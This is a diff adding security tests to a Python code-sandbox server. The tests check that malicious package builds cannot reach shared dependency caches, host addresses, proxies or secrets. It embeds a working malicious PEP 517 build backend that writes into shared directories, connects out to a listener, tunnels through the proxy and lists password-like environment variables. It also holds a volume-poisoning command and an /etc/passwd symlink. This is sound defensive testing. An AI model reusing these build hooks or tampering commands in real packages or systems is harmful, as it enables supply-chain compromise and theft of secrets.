@@ -836,6 +836,245 @@ async def files_dir_retention(ctx):
             await s.nothing_left()
 
 
+# --- Issue 13.1: a package's install cannot reach other clients' dependencies or the host -------
+
+EVIL_BACKEND = r'''
+import base64, hashlib, io, json, os, socket, zipfile
+
+def probe():
+    seen = {}
+    # What the image has at these paths (empty directories), not the volumes.
+    seen["listing"] = {p: sorted(os.listdir(p)) if os.path.isdir(p) else None for p in ["/opt/deps", "/opt/pip-cache"]}
+    for path in ["/opt/deps", "/opt/pip-cache"]:
+        try:
+            with open(os.path.join(path, "planted"), "w") as f:
+                f.write("x")
+            seen[path] = "written"
+        except OSError as e:
+            seen[path] = type(e).__name__
+    s = socket.socket()
+    s.settimeout(5)
+    try:
+        s.connect(("GATEWAY", LISTENER))
+        s.sendall(b"hello-from-a-build-step")
+        seen["direct"] = "connected"
+    except OSError as e:
+        seen["direct"] = type(e).__name__
+    finally:
+        s.close()
+    proxy = os.environ.get("HTTPS_PROXY", "")[len("http://"):].rsplit(":", 1)
+    try:
+        s = socket.create_connection((proxy[0], int(proxy[1])), timeout=10)
+        s.sendall(b"CONNECT GATEWAY:LISTENER HTTP/1.1\r\nHost: x\r\n\r\n")
+        seen["proxy"] = s.recv(100).split(b"\r\n")[0].decode()
+        s.close()
+    except (OSError, IndexError, ValueError) as e:
+        seen["proxy"] = type(e).__name__
+    seen["env"] = sorted(k for k in os.environ if "INDEX" in k or "PASS" in k)
+    return seen
+
+def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
+    module = "RESULTS = %r\n" % json.dumps(probe())
+    name = "pcs_evil-1.0-py3-none-any.whl"
+    files = {
+        "pcs_evil.py": module.encode(),
+        "pcs_evil-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: pcs-evil\nVersion: 1.0\n",
+        "pcs_evil-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
+    }
+    record = ""
+    for path, data in files.items():
+        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
+        record += "%s,sha256=%s,%d\n" % (path, digest, len(data))
+    record += "pcs_evil-1.0.dist-info/RECORD,,\n"
+    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as z:
+        for path, data in files.items():
+            z.writestr(path, data)
+        z.writestr("pcs_evil-1.0.dist-info/RECORD", record)
+    return name
+'''
+
+
+def make_wheel(name, version, module_source):
+    """A minimal pure-Python wheel: (filename, bytes)."""
+    import hashlib
+    import io
+    import zipfile
+    dist = f"{name}-{version}.dist-info"
+    files = {
+        f"{name}.py": module_source.encode(),
+        f"{dist}/METADATA": f"Metadata-Version: 2.1\nName: {name.replace('_', '-')}\nVersion: {version}\n".encode(),
+        f"{dist}/WHEEL": b"Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
+    }
+    record = ""
+    for path, data in files.items():
+        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
+        record += f"{path},sha256={digest},{len(data)}\n"
+    record += f"{dist}/RECORD,,\n"
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as z:
+        for path, data in files.items():
+            z.writestr(path, data)
+        z.writestr(f"{dist}/RECORD", record)
+    return f"{name}-{version}-py3-none-any.whl", buffer.getvalue()
+
+
+def make_evil_sdist(gateway, listener_port):
+    """An sdist whose in-tree PEP 517 backend probes what a build step can reach."""
+    import io
+    import tarfile
+    backend = EVIL_BACKEND.replace("GATEWAY", gateway).replace("LISTENER", str(listener_port))
+    files = {
+        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
+        "backend.py": backend,
+        "PKG-INFO": "Metadata-Version: 2.1\nName: pcs-evil\nVersion: 1.0\n",
+    }
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
+        for path, text in files.items():
+            data = text.encode()
+            info = tarfile.TarInfo(f"pcs_evil-1.0/{path}")
+            info.size = len(data)
+            tar.addfile(info, io.BytesIO(data))
+    return "pcs_evil-1.0.tar.gz", buffer.getvalue()
+
+
+class LocalIndex:
+    """A PEP 503 simple index served by this suite on the host's bridge address."""
+
+    def __init__(self, address, packages):
+        import http.server
+        import socketserver
+        self.dir = tempfile.mkdtemp(prefix="pcs-index-")
+        for project, (filename, data) in packages.items():
+            os.makedirs(os.path.join(self.dir, "simple", project))
+            os.makedirs(os.path.join(self.dir, "files"), exist_ok=True)
+            with open(os.path.join(self.dir, "files", filename), "wb") as f:
+                f.write(data)
+            with open(os.path.join(self.dir, "simple", project, "index.html"), "w") as f:
+                f.write(f'<html><body><a href="/files/{filename}">{filename}</a></body></html>')
+        directory = self.dir
+
+        class Handler(http.server.SimpleHTTPRequestHandler):
+            def __init__(self, *args, **kwargs):
+                super().__init__(*args, directory=directory, **kwargs)
+
+            def log_message(self, *args):
+                pass
+
+        self.httpd = socketserver.ThreadingTCPServer((address, 0), Handler)
+        self.httpd.daemon_threads = True
+        self.port = self.httpd.server_address[1]
+        self.url = f"http://{address}:{self.port}/simple/"
+        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
+        self.thread.start()
+
+    def close(self):
+        self.httpd.shutdown()
+        self.httpd.server_close()
+        import shutil
+        shutil.rmtree(self.dir, ignore_errors=True)
+
+
+@contextlib.asynccontextmanager
+async def deps_lab(ctx, **settings):
+    """A listener and a local index (a victim wheel, the evil sdist) on the host's bridge address,
+    a fresh dependency volume, and the server settings that use them."""
+    if ctx.runtime == "runsc":
+        raise Skip("runsc is registered with --network=none on this machine: installers need a network")
+    gateway = host_gateway()
+    listener = Listener(gateway)
+    index = LocalIndex(gateway, {
+        "pcs-victim": make_wheel("pcs_victim", "1.0", "VALUE = 'clean'\n"),
+        "pcs-evil": make_evil_sdist(gateway, listener.port),
+    })
+    volume = "pcs-suite-deps-" + uuid.uuid4().hex[:12]
+    env = {
+        **ATTACK_ENV,
+        **ctx.runtime_env,
+        "SANDBOX_MEMORY_LIMIT": "512m",
+        "SANDBOX_PIDS_LIMIT": "256",
+        "SANDBOX_DEPS_VOLUME": volume,
+        "ENABLE_PIP_CACHE": "false",
+        # The operator's explicit consent for an index on a private address.
+        "PIP_INDEX_URL": index.url,
+        "SANDBOX_DEPS_EGRESS_ALLOW_PRIVATE": gateway,
+        **settings,
+    }
+    try:
+        yield env, listener, volume
+    finally:
+        listener.close()
+        index.close()
+        docker("volume", "rm", volume, check_rc=False)
+
+
+async def run_with_deps(s, code, deps):
+    return await s.call("run_python_ephemeral", {"code": code, "dependencies": deps})
+
+
+VICTIM = "import pcs_victim, os, sys\nprint(pcs_victim.VALUE)"
+
+
+@case("dependencies: a package without a wheel is refused by default, its build never runs", kind="attack-own-server")
+async def deps_wheels_only(ctx):
+    async with deps_lab(ctx) as (env, listener, volume):
+        async with server(ctx.binary, **env) as s:
+            result = await run_with_deps(s, "import pcs_evil", ["pcs-evil"])
+            check(result.is_error, f"an sdist-only package was installed: {text_of(result)}")
+            check("pcs-evil" in text_of(result) and "SANDBOX_ALLOW_SOURCE_BUILDS" in text_of(result), text_of(result))
+            victim = await run_with_deps(s, VICTIM, ["pcs-victim"])
+            check(victim.is_error is False and victim.structured_content["stdout"] == "clean\n", text_of(victim))
+            await s.answers_normally()
+            await s.nothing_left()
+        time.sleep(0.5)
+        check(listener.received == [], f"the build step ran and reached the host: {listener.received}")
+
+
+@case("dependencies: a malicious build step reaches no other set, no download cache, no host address", kind="attack-own-server")
+async def deps_malicious_build(ctx):
+    async with deps_lab(ctx, SANDBOX_ALLOW_SOURCE_BUILDS="true") as (env, listener, volume):
+        async with server(ctx.binary, **env) as s:
+            # Another client's set first.
+            victim = await run_with_deps(s, VICTIM, ["pcs-victim"])
+            check(victim.is_error is False and victim.structured_content["stdout"] == "clean\n", text_of(victim))
+            evil = await run_with_deps(s, "import pcs_evil, json\nprint(pcs_evil.RESULTS)", ["pcs-evil"])
+            check(evil.is_error is False, text_of(evil))
+            seen = json.loads(evil.structured_content["stdout"].strip())
+            check(all(not listed for listed in seen["listing"].values()), f"the build saw {seen['listing']}")
+            check(seen["/opt/deps"] != "written" and seen["/opt/pip-cache"] != "written", f"{seen}")
+            check(seen["direct"] != "connected", "the build step reached the host directly")
+            check(seen["proxy"] == "HTTP/1.1 403 Forbidden", f"proxy: {seen['proxy']}")
+            check(seen["env"] == [], f"the build step saw {seen['env']}")
+            # The victim's set is unchanged, and a sandbox cannot list the cache.
+            again = await run_with_deps(
+                s, VICTIM + "\ntry:\n    print(os.listdir('/opt/deps'))\nexcept OSError as e:\n    print(type(e).__name__)",
+                ["pcs-victim"])
+            check(again.structured_content["stdout"] == "clean\nPermissionError\n", text_of(again))
+            await s.answers_normally()
+            await s.nothing_left()
+        time.sleep(0.5)
+        check(listener.received == [], f"the listener got {listener.received}")
+
+
+@case("dependencies: a set changed after publication is detected and never mounted", kind="attack-own-server")
+async def deps_tampered_set(ctx):
+    async with deps_lab(ctx) as (env, listener, volume):
+        async with server(ctx.binary, **env) as s:
+            first = await run_with_deps(s, VICTIM, ["pcs-victim"])
+            check(first.structured_content["stdout"] == "clean\n", text_of(first))
+        image = os.environ.get("SANDBOX_IMAGE", "python-code-sandbox:py3.11")
+        docker("run", "--rm", "--network", "none", "--user", "0", "--entrypoint", "sh", "-v", f"{volume}:/v", image,
+               "-c", "for f in /v/s-*/pcs_victim.py; do echo \"VALUE = 'poisoned'\" >> $f; done; echo x > /v/stray")
+        async with server(ctx.binary, **env) as s:
+            second = await run_with_deps(s, VICTIM, ["pcs-victim"])
+            check(second.structured_content["stdout"] == "clean\n", f"the changed set was mounted: {text_of(second)}")
+            await s.answers_normally()
+            await s.nothing_left()
+        listing = docker("run", "--rm", "--network", "none", "--user", "0", "--entrypoint", "sh", "-v", f"{volume}:/v",
+                         image, "-c", "ls -A /v; grep -rl poisoned /v || true")
+        check("stray" not in listing and "/v/" not in listing, f"left in the volume: {listing}")
+
+
 COPY_OUT = r"""
 import os
 os.symlink('/etc/passwd', 'passwd-link')
